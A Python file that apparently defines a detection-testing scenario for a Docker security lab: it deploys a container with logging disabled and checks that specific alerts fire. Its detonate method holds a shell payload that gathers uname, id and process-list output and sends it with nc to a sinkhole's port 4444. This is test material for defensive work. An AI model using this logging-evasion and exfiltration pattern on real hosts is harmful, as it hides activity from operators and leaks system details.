"""A payload runs in a container whose log driver is ``none``: nothing it prints is kept."""

from __future__ import annotations

from lab import Lab, Logging, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class LogDriverNone(Scenario):
    id = "docker.logging.log-driver-none"
    title = "Payload runs in a container with logging disabled (log driver none)"
    kind = Kind.ADVERSARY
    techniques = ("T1562.001", "T1610")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.docker.logging-disabled",), within_s=15, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "Its payload really sends host details with nc to the sinkhole's port 4444 on the lab internet, "
            "outside the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "The same connection really leaves the container for the sinkhole on the lab internet, seen on the "
            "wire, outside the egress allowlist.",
    })
    twin = "docker.logging.dev-minimal-logging"
    tags = ("logging", "defense-evasion")
    description = (
        "Deploys a container on the lab LAN, with a leg on the lab internet, whose log driver is "
        "`none`, so the engine keeps none of its output. Its payload collects host details (uname, "
        "id, the process list) and sends them to the sinkhole's port 4444 three times, two seconds "
        "apart. The scenario checks that the sinkhole really received the data."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        payload = (
            "for i in 1 2 3; do "
            f"{{ uname -a; id; ps -eo pid,comm; }} | nc -w 2 -q 1 {sink} 4444; sleep 2; "
            "done; sleep 30"
        )
        lab.action("deploy a container with log driver none")
        worker = lab.deploy(WorkloadSpec(
            role="worker", networks=("lan", "inet"), logging=Logging(driver="none"), command=("sh", "-c", payload),
        ))
        address = worker.addresses["inet"]
        lab.wait_for(lambda: bool(lab.sinkhole_records(peer=address)), timeout=15,
                     what="the payload's data to reach the sinkhole")
